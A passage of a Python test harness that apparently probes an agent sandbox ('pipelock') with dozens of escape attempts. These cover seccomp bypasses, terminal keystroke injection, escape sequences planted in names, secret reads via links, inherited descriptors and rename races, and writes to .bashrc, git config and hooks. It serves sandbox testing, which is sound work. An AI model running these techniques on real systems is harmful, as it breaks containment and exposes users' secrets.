    return f"descriptor {call(facts, 'fanotify_init', 0, 0)}"


@attempt(told="quotactl")
def quotas(facts: Facts) -> str | None:
    return reached(facts, "quotactl", 0x7FFFFFFF, None, 0, None, harmless=(errno.EINVAL, errno.ENODEV, errno.ENOSYS))


@attempt(BOTH, told="personality")
def memory_without_randomness(facts: Facts) -> str | None:
    call(facts, "personality", 0x0040000)
    return "ADDR_NO_RANDOMIZE"


@attempt()
def calls_of_another_machine(facts: Facts) -> str | None:
    """The filter knows one machine's numbers; the kernel of an x86-64 takes those of its 32 bits, too."""
    if platform.machine() != "x86_64":
        return None
    code = b"\xb8\x14\x00\x00\x00\xcd\x80\xc3"  # mov eax, 20 (getpid); int 0x80; ret
    memory = mmap.mmap(-1, 4096, prot=mmap.PROT_READ | mmap.PROT_WRITE | mmap.PROT_EXEC)
    memory.write(code)
    address = ctypes.addressof(ctypes.c_char.from_buffer(memory))
    found = int(ctypes.CFUNCTYPE(ctypes.c_int)(address)())
    return "the call went through" if found == os.getpid() else None


@attempt()
def calls_with_the_x32_bit(facts: Facts) -> str | None:
    if platform.machine() != "x86_64":
        return None
    result = _LIBC.syscall(ctypes.c_long(0x40000000 | 39))
    return "the call went through" if checked(result) == os.getpid() else None


def own_filter(facts: Facts, flags: int) -> int:
    """Put a filter of ones own on, which lets everything through."""
    code = struct.pack("HBBI", 0x06, 0, 0, 0x7FFF0000)
    memory = ctypes.create_string_buffer(code, len(code))
    call(facts, "prctl", 38, 1, 0, 0, 0)  # PR_SET_NO_NEW_PRIVS
    return call(facts, "seccomp", 1, flags, struct.pack("HxxxxxxP", 1, ctypes.addressof(memory)))


@attempt(BOTH, told="seccomp with a listener")
def answer_for_the_filter(facts: Facts) -> str | None:
    """Of two filters that ask somebody, the younger one's listener is asked: it could say that all may go on."""
    return f"listener {own_filter(facts, 8)}"


@attempt()
def take_the_filter_off(facts: Facts) -> str | None:
    if facts.outside:
        return None
    call(facts, "prctl", 22, 0, 0, 0, 0)  # PR_SET_SECCOMP to disabled
    return "it is off"


@attempt()
def take_no_new_privileges_back(facts: Facts) -> str | None:
    if facts.outside:
        return None
    call(facts, "prctl", 38, 0, 0, 0, 0)
    return "they may be had again"


@attempt(ROOT)
def capabilities(facts: Facts) -> str | None:
    status = Path("/proc/self/status").read_text()
    held = [int(one, 16) for one in re.findall(r"^Cap(?:Prm|Eff|Bnd|Amb|Inh):\s*(\w+)$", status, re.MULTILINE)]
    call(facts, "capset", struct.pack("Ii", 0x20080522, 0), struct.pack("6I", *[1 << 21] * 2, 0, 0, 0, 0))
    return f"capabilities {held}"


@attempt(ROOT)
def another_user(facts: Facts) -> str | None:
    """Only those that are mapped exist."""
    os.setresuid(12345, 12345, 12345)
    return "user 12345"


@attempt(ROOT)
def more_groups(_facts: Facts) -> str | None:
    os.setgroups([0, 6, 42])
    return f"{os.getgroups()}"


@attempt()
def core_dumps(facts: Facts) -> str | None:
    if facts.outside:
        return None
    everything = resource.RLIM_INFINITY & (1 << 64) - 1
    call(facts, "prlimit64", 0, resource.RLIMIT_CORE, struct.pack("QQ", everything, everything), None)
    return "memory may be dumped"


# -- terminals ---------------------------------------------------------------------------------------------------------


def type_into_the_terminal(facts: Facts, request: int) -> str | None:
    with Path("/dev/tty").open("rb") as terminal:
        call(facts, "ioctl", terminal.fileno(), request, b"X")
    return "it was typed"


@attempt(told="ioctl TIOCSTI")
def type_for_the_user(facts: Facts) -> str | None:
    return type_into_the_terminal(facts, 0x5412)


@attempt(told="ioctl TIOCSTI")
def type_for_the_user_with_high_bits(facts: Facts) -> str | None:
    return type_into_the_terminal(facts, 1 << 32 | 0x5412)


@attempt(told="ioctl TIOCLINUX")
def paste_for_the_user(facts: Facts) -> str | None:
    with Path("/dev/tty").open("rb") as terminal:
        return reached(facts, "ioctl", terminal.fileno(), 0x541C, b"\x03")


@attempt(told="ioctl TIOCSETD")
def other_driver_for_the_terminal(facts: Facts) -> str | None:
    with Path("/dev/tty").open("rb") as terminal:
        return reached(facts, "ioctl", terminal.fileno(), 0x5423, struct.pack("i", 0))


@attempt()
def other_terminals(facts: Facts) -> str | None:
    """Windows of the user's, where they type."""
    found = [path for path in Path("/dev/pts").iterdir() if path.name != "ptmx"]
    return None if facts.outside or not found else f"{found}"


@attempt()
def escape_sequences_in_what_is_told(facts: Facts) -> str | None:
    """The launcher says which program was refused what: in a name of its own, in a path, in a name of a file."""
    name = ctypes.create_string_buffer(b"\x1b]0;pwned\x07\x1b[2J")
    call(facts, "prctl", 15, ctypes.addressof(name), 0, 0, 0)
    for _ in range(50):
        with contextlib.suppress(OSError):
            call(facts, "acct" if not facts.outside else "getpid", b"/x\x1b[31m")
    folder = facts.path("work") / ".claude"
    folder.mkdir(exist_ok=True)
    with contextlib.suppress(OSError):
        (folder / "hooks").mkdir()
        (folder / "hooks" / "x\x1b]0;pwned\x07.sh").write_text("#!/bin/sh\n")
    return None


# -- files -------------------------------------------------------------------------------------------------------------


def read(path: Path, secret: str) -> str | None:
    return secret if secret in path.read_text(errors="replace") else None


@attempt(BOTH)
def secret_in_the_home(facts: Facts) -> str | None:
    return read(facts.path("home_secret"), facts.secret)


@attempt(BOTH)
def key_in_the_home(facts: Facts) -> str | None:
    return read(facts.path("key"), facts.secret)


@attempt(BOTH)
def masked_file_in_the_workspace(facts: Facts) -> str | None:
    return read(facts.path("masked"), facts.secret)


@attempt(BOTH)
def masked_file_by_renaming(facts: Facts) -> str | None:
    """Moves what lies around the cover, and looks again."""
    masked = facts.path("masked")
    moved = masked.parent.with_name("moved")
    masked.parent.rename(moved)
    try:
        return read(moved / masked.name, facts.secret)
    finally:
        moved.rename(masked.parent)


@attempt(BOTH)
def masked_file_by_a_hard_link(facts: Facts) -> str | None:
    linked = facts.path("work") / "linked"
    os.link(facts.masked, linked)
    try:
        return read(linked, facts.secret)
    finally:
        linked.unlink()


@attempt(BOTH)
def masked_file_taken_away(facts: Facts) -> str | None:
    facts.path("masked").rename(facts.path("work") / "taken")
    (facts.path("work") / "taken").rename(facts.masked)
    return "it could be moved"


@attempt(BOTH)
def files_of_the_daemon(facts: Facts) -> str | None:
    return f"{sorted(path.name for path in facts.path('daemon_home').iterdir())}"


@attempt(ROOT)
def passwords_of_the_system(_facts: Facts) -> str | None:
    return f"{len(Path('/etc/shadow').read_text().splitlines())} lines" if Path("/etc/shadow").stat().st_size else None


@attempt(BOTH)
def temporary_files_of_others(facts: Facts) -> str | None:
    return read(facts.path("temporary"), facts.secret)


@attempt(BOTH)
def shared_memory_of_others(facts: Facts) -> str | None:
    return read(facts.path("shared"), facts.secret)


@attempt(BOTH)
def secret_by_a_link_in_the_workspace(facts: Facts) -> str | None:
    link = facts.path("work") / "to-secret"
    link.unlink(missing_ok=True)
    link.symlink_to(facts.home_secret)
    return read(link, facts.secret)


@attempt(BOTH)
def secret_by_climbing_out(facts: Facts) -> str | None:
    return read(Path("/proc/self/cwd") / "/".join([".."] * 20) / facts.home_secret.lstrip("/"), facts.secret)


@attempt(BOTH)
def secret_by_a_hard_link(facts: Facts) -> str | None:
    linked = facts.path("work") / "linked-secret"
    os.link(facts.home_secret, linked)
    try:
        return read(linked, facts.secret)
    finally:
        linked.unlink()


@attempt(BOTH)
def secret_by_an_inherited_descriptor(facts: Facts) -> str | None:
    """Whoever started the launcher had files open that were not closed on exec."""
    for name in [path.name for path in Path("/proc/self/fd").iterdir()]:
        with contextlib.suppress(OSError):
            if int(name) > 2 and facts.secret.encode() in os.pread(int(name), 4096, 0):
                return f"the secret, from descriptor {name}"
    return None


@attempt(BOTH)
def folder_by_an_inherited_descriptor(facts: Facts) -> str | None:
    for name in [path.name for path in Path("/proc/self/fd").iterdir()]:
        with contextlib.suppress(OSError):
            found = os.open(Path(facts.home_secret).name, os.O_RDONLY, dir_fd=int(name))
            if facts.secret.encode() in os.read(found, 4096):
                return f"the secret, by folder {name}"
    return None


@attempt(BOTH)
def input_opened_anew_for_writing(facts: Facts) -> str | None:
    """What was opened for reading alone, the kernel opens anew by its name in /proc, whatever the mounts say."""
    with Path("/proc/self/fd/0").open("a") as file:
        file.write(facts.marker)
    return "it was written to"


@attempt(BOTH)
def write_in_the_home(facts: Facts) -> str | None:
    return wrote(facts, facts.path("home_file"))


def wrote(facts: Facts, path: Path) -> str | None:
    """The host looks whether it really did."""
    if not path.exists():
        raise FileNotFoundError(errno.ENOENT, "it is not there", str(path))
    with path.open("a") as file:
        file.write(facts.marker)
    return "it was written to" if facts.outside else None


@attempt(BOTH)
def start_file_of_the_shell(facts: Facts) -> str | None:
    with (facts.path("home") / ".bashrc").open("a") as file:
        file.write(f"# {facts.marker}\n")
    return "it was written to" if facts.outside else None


@attempt(BOTH)
def write_by_a_link_in_the_workspace(facts: Facts) -> str | None:
    link = facts.path("work") / "to-file"
    link.unlink(missing_ok=True)
    link.symlink_to(facts.home_file)
    return wrote(facts, link)


@attempt(BOTH)
def replace_by_renaming(facts: Facts) -> str | None:
    mine = facts.path("work") / "mine"
    mine.write_text(facts.marker)
    mine.rename(facts.home_file)
    return "it was replaced"


@attempt(BOTH)
def race_of_links_and_renames(facts: Facts) -> str | None:
    """A path is exchanged all the time between a folder of ours and a link that leads out."""
    work = facts.path("work")
    ours, out = work / "ours", work / "out"
    shutil.rmtree(ours, ignore_errors=True)
    ours.mkdir()
    out.unlink(missing_ok=True)
    out.symlink_to(Path(facts.home_secret).parent)
    (ours / Path(facts.home_secret).name).write_text("nothing")
    stop = time.monotonic() + (PATIENCE if facts.outside else 0.15)
    found: list[str] = []

    def look() -> None:
        while time.monotonic() < stop and not found:
            with contextlib.suppress(OSError):
                if facts.secret in (ours / Path(facts.home_secret).name).read_text():
                    found.append("the secret")

    reader = threading.Thread(target=look)
    reader.start()
    while time.monotonic() < stop and not found:
        call(facts, "renameat2", -100, str(ours).encode(), -100, str(out).encode(), 2)
    reader.join()
    return found[0] if found else None


@attempt(ROOT)
def files_of_the_system(_facts: Facts) -> str | None:
    for folder in ("/etc", "/usr", "/usr/bin"):
        path = Path(folder) / f"pipelock-test-{os.getpid()}"
        path.write_text("x")
        path.unlink()
    return "files in /etc and /usr"


@attempt()
def attributes_of_the_system(_facts: Facts) -> str | None:
    os.utime("/etc/passwd", None)
    return "times may be changed"


@attempt(BOTH)
def settings_of_git(facts: Facts) -> str | None:
    """Git runs what its settings name, as whoever calls it."""
    with (facts.path("work") / ".git" / "config").open("a") as file:
        file.write("[core]\n\tfsmonitor = /bin/true\n")
    return "they were changed"


@attempt(BOTH)
def settings_of_git_replaced(facts: Facts) -> str | None:
    mine = facts.path("work") / ".git" / "config.lock"
    mine.write_text("[core]\n\tfsmonitor = /bin/true\n")
    mine.rename(facts.path("work") / ".git" / "config")
    return "they were replaced"


@attempt(BOTH)
def settings_of_git_moved_with_their_folder(facts: Facts) -> str | None:
    git = facts.path("work") / ".git"
    away = git.with_name(".git-away")
    git.rename(away)
    away.rename(git)
    return "the folder may be replaced"


@attempt(BOTH)
def hook_of_git(facts: Facts) -> str | None:
    (facts.path("work") / ".git" / "hooks" / "pre-commit").write_text("#!/bin/sh\n")
    return "a hook"


@attempt(BOTH)
def hook_of_a_submodule(facts: Facts) -> str | None:
    (facts.path("work") / ".git" / "modules" / "part" / "hooks" / "pre-commit").write_text("#!/bin/sh\n")
    return "a hook"


@attempt(BOTH)
def folder_above_a_protected_one_exchanged(facts: Facts) -> str | None:
    work = facts.path("work")
    shutil.copytree(work / ".git" / "modules", work / "modules-of-mine", dirs_exist_ok=True)
    one, other = str(work / "modules-of-mine").encode(), str(work / ".git" / "modules").encode()
    call(facts, "renameat2", -100, one, -100, other, 2)
    return "they were exchanged"


@attempt(BOTH)
def workspace_renamed(facts: Facts) -> str | None:
    work = facts.path("work")
    moved = work.with_name("work-moved")
    work.rename(moved)
    moved.rename(work)
    return "it may be renamed"


@attempt(BOTH)
def program_with_its_owners_rights(facts: Facts) -> str | None:
    path = facts.path("work") / "left-behind"
    shutil.copy("/bin/true", path)
    path.chmod(0o4755)
    return "it has them" if path.stat().st_mode & stat.S_ISUID else None


@attempt(BOTH)
def program_with_its_owners_rights_from_the_start(facts: Facts) -> str | None:
    path = facts.path("work") / "left-behind-too"
    path.unlink(missing_ok=True)
    os.close(os.open(path, os.O_CREAT | os.O_WRONLY, 0o4755))
    return "it has them" if path.stat().st_mode & stat.S_ISUID else None


@attempt(ROOT)
def program_with_capabilities(facts: Facts) -> str | None:
    path = facts.path("work") / "capable"
    shutil.copy("/bin/true", path)
    os.setxattr(path, "security.capability", struct.pack("<IIIII", 0x2000001, 1 << 21, 0, 0, 0))
    return "it has them"


@attempt()
def rights_of_a_programs_owner(facts: Facts) -> str | None:
    """The host has left a program that makes its caller root."""
    if not facts.rootly:
        return None
    there, here = os.pipe()
    child = os.fork()
    if not child:
        os.dup2(here, 1)
        os.execv(facts.rootly, [facts.rootly, "-u"])
    os.close(here)
    os.waitpid(child, 0)
    found = os.read(there, 100).decode().strip()
    return "root" if found == "0" and os.getuid() else None


@attempt(ROOT)
def settings_of_the_kernel(_facts: Facts) -> str | None:
    """Writes what is there already."""
    path = Path("/proc/sys/kernel/core_pattern")
    path.write_text(path.read_text())
    return "they may be changed"


@attempt(BOTH)
def own_score_with_the_oom_killer(_facts: Facts) -> str | None:
    """Harmless in itself: it shows whether anything in /proc can be written to."""
    Path("/proc/self/oom_score_adj").write_text("500")
    return "it was changed"


@attempt(ROOT)
def groups_of_processes(facts: Facts) -> str | None:
    """Out of the sandbox's limits, into another group."""
    for mount in Path("/proc/self/mounts").read_text().splitlines():
        kind, place = mount.split()[2], mount.split()[1]
        if kind.startswith("cgroup") and Path(place, "cgroup.procs").exists():
            Path(place, "cgroup.procs").open("w").close()
            return f"{place} may be written to"
    Path("/sys/fs/cgroup/cgroup.procs").open("w").close()
    return "it may be written to"


@attempt(BOTH)
def cache_poisoning(facts: Facts) -> str | None:
    """Programs outside trust what is in their caches. Inside this changes a copy: the host looks."""
    path = facts.path("cached")
    path.write_text(facts.marker)
    return "it was written to" if facts.outside else None


@attempt(BOTH)
def where_changed_caches_are_kept(facts: Facts) -> str | None:
    return f"{list((facts.path('home') / '.cache' / 'pipelock').iterdir())}"


@attempt(told="ioctl BTRFS_IOC_SNAP_CREATE")
def whole_file_system_by_a_snapshot(facts: Facts) -> str | None:
    """On btrfs, kernels before 6.9 make a snapshot of everything around any folder of ones own."""
    folder = os.open(facts.work, os.O_RDONLY)
    for request in (0x50009401, 0x50009417):
        call(facts, "ioctl", folder, request, bytes(4096))
    return "a snapshot"


# -- what is shared between processes ----------------------------------------------------------------------------------


@attempt(BOTH)
def shared_memory_segments(facts: Facts) -> str | None:
    identifier = call(facts, "shmget", facts.shm_key, 64, 0)
    return f"segment {identifier}"


@attempt(BOTH)
def message_queues(facts: Facts) -> str | None:
    return f"queue {call(facts, 'mq_open', facts.queue.encode(), os.O_RDWR, 0, None)}"


@attempt(BOTH)
def variables_with_secrets(facts: Facts) -> str | None:
    return next((name for name, value in os.environ.items() if facts.secret in value), None)


@attempt(BOTH)
def library_loaded_into_everything(_facts: Facts) -> str | None:
    names = ("LD_PRELOAD", "LD_LIBRARY_PATH", "LD_AUDIT", "BASH_ENV", "PYTHONSTARTUP", "NODE_OPTIONS", "GIT_SSH")
    found = [name for name in names if "pipelock-test" in os.environ.get(name, "")]
    return f"{found}" if found else None


# -- another sandbox ---------------------------------------------------------------------------------------------------


@attempt()
def neighbours_abstract_socket(facts: Facts) -> str | None:
    return local(b"\0" + facts.neighbour.encode())


@attempt()
def neighbours_port(facts: Facts) -> str | None:
    return ask(socket.AF_INET, "127.0.0.1", facts.neighbour_port)


@attempt()
def neighbours_port_by_the_proxy(facts: Facts) -> str | None:
    return connect(facts, f"127.0.0.1:{facts.neighbour_port}")


@attempt()
def neighbours_files(facts: Facts) -> str | None:
    return read(Path("/tmp") / facts.neighbour, facts.neighbour)


@attempt()
def neighbours_process(facts: Facts) -> str | None:
    for folder in processes():
        with contextlib.suppress(OSError):
            if not facts.outside and facts.neighbour.encode() in (folder / "cmdline").read_bytes():
                return f"it is process {folder.name}"
    return None


# -- all of them -------------------------------------------------------------------------------------------------------


def tried(name: str, facts: Facts) -> dict[str, object]:
    """One attempt in a process of its own, and what came of it."""
    started = time.monotonic()
    there, here = os.pipe()
    child = os.fork()
    if not child:
        os.close(there)
        signal.alarm(LIMIT)
        os.write(here, json.dumps(outcome(name, facts)).encode()[:60_000])
        os._exit(0)
    os.close(here)
    with os.fdopen(there, "rb") as pipe:
        said = pipe.read()
    _, status = os.waitpid(child, 0)
    found: dict[str, object] = json.loads(said) if said else {"got": None, "error": "", "errno": 0}
    if os.WIFSIGNALED(status):
        found["signal"] = os.WTERMSIG(status)
    return {"name": name, "took": round(time.monotonic() - started, 2), **found}


def outcome(name: str, facts: Facts) -> dict[str, object]:
    got, error, number = None, "", 0
    try:
        got = ATTEMPTS[name].run(facts)
    except OSError as failure:
        error, number = str(failure), failure.errno or -1
    except (ValueError, KeyError, RuntimeError, AttributeError, TypeError, LookupError) as failure:
        error = f"{type(failure).__name__}: {failure}"
    return {"got": got, "error": error, "errno": number}


def main() -> None:
    facts = Facts(json.load(sys.stdin))
    signal.signal(signal.SIGUSR2, signal.SIG_IGN)
    for name in ATTEMPTS:
        sys.stdout.write(f"{json.dumps(tried(name, facts))}\n")
        sys.stdout.flush()
    # The host looks at us now; a file tells that it has seen enough.
    enough = facts.path("work") / "enough"
    deadline = time.monotonic() + 60
    while not facts.outside and not enough.exists() and time.monotonic() < deadline:
        time.sleep(0.02)


if __name__ == "__main__":
    main()
